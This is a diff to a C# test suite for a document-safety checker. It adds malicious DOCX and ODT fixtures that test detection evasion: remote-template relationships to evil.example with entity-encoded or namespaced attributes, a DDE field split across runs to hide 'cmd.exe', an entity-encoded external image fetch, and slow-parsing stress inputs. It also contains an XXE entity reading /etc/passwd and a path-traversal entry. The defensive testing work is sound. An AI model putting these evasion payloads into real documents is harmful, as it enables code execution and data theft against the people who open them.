@@ -51,6 +51,19 @@ internal sealed class CheckedPaperTests
         yield return Case("paper.docx", MadeFiles.Docx(("[Content_Types].xml", "<Types><Override PartName=\"/word/document.xml\" ContentType=\"" + DocumentType + "\"/><Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>")), "holds macros");
         yield return Case("paper.docx", MadeFiles.Docx(("word/embeddings/oleObject1.bin", "x")), "holds another file inside it");
         yield return Case("paper.docx", MadeFiles.Docx(("word/_rels/settings.xml.rels", """<Relationships><Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>""")), "fetches a template");
+        foreach (var relationship in new[]
+        {
+            """<Relationship Type="http://x/attachedTemplate" TargetMode="External" Target="https://evil.example/hyperlink"/>""",
+            """<Relationship Type="http://x/attachedTemplate" TargetMode="&#69;xternal" Target="https://evil.example/t.dotm"/>""",
+            """<r:Relationship xmlns:r="r" Id=">" Type="http://x/attachedTemplate" TargetMode="External" Target="https://evil.example/t.dotm"/>""",
+        })
+        {
+            yield return Case("paper.docx", MadeFiles.Docx(("word/_rels/settings.xml.rels", $"<Relationships>{relationship}</Relationships>")), "fetches a template");
+        }
+
+        yield return Case("paper.docx", MadeFiles.Docx(("word/header1.xml", """<w:hdr xmlns:w="w"><w:fldChar w:fldCharType="begin"/><w:instrText>DD</w:instrText><w:instrText>E c:\cmd.exe</w:instrText><w:fldChar w:fldCharType="end"/></w:hdr>""")), "a field that fetches data");
+        yield return Case("paper.docx", MadeFiles.Docx(("word/_rels/document.xml.rels", """<Relationships><Relationship Type="http://x/aFChunk" Target="part.htm"/></Relationships>""")), "holds another file inside it");
+        yield return Case("paper.odt", MadeFiles.Odt(("content.xml", """<d xmlns:q="d" xmlns:l="x"><q:image l:href="&#104;ttps://evil.example/a.png"/></d>""")), "fetches a picture");
         yield return Case("paper.docx", MadeFiles.Docx(("word/document.xml", """<w:document xmlns:w="w"><w:instrText>DDEAUTO c:\\windows\\cmd.exe</w:instrText></w:document>""")), "a field that fetches data");
         yield return Case("paper.docx", MadeFiles.Docx(("word/document.xml", "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><w:document xmlns:w=\"w\">&a;</w:document>")), "is damaged");
         yield return Case("paper.docx", MadeFiles.Docx(("../../etc/cron.d/evil", "x")), "lead out of it");
@@ -65,6 +78,19 @@ internal sealed class CheckedPaperTests
         yield return Case("paper.odt", MadeFiles.Odt(("META-INF/manifest.xml", """<m xmlns:manifest="m"><manifest:encryption-data/></m>""")), "is encrypted");
 
         static TestCaseData Case(string name, byte[] content, params string[] says) => new TestCaseData(name, content, says).SetArgDisplayNames(name, says[0], content.Length.ToString(System.Globalization.CultureInfo.InvariantCulture));
+    }
+
+    [Test, CancelAfter(20_000)]
+    public void A_file_made_to_keep_the_look_busy_is_looked_at_in_a_moment()
+    {
+        var pdf = Encoding.ASCII.GetBytes("%PDF-1.7\n1 0 obj\n" + string.Concat(Enumerable.Repeat(">>stream\n", 1_000_000)) + "%%EOF");
+        var odt = MadeFiles.Odt(("content.xml", "<d><!-- " + string.Concat(Enumerable.Repeat("<draw:image ", 500_000)) + "--></d>"));
+        var began = System.Diagnostics.Stopwatch.GetTimestamp();
+
+        _ = CheckedPaper.Of("paper.odt", odt);
+        _ = CheckedPaper.Of("paper.pdf", pdf);
+
+        Assert.That(System.Diagnostics.Stopwatch.GetElapsedTime(began), Is.LessThan(TimeSpan.FromSeconds(15)));
     }
 
     [TestCaseSource(nameof(Good))]
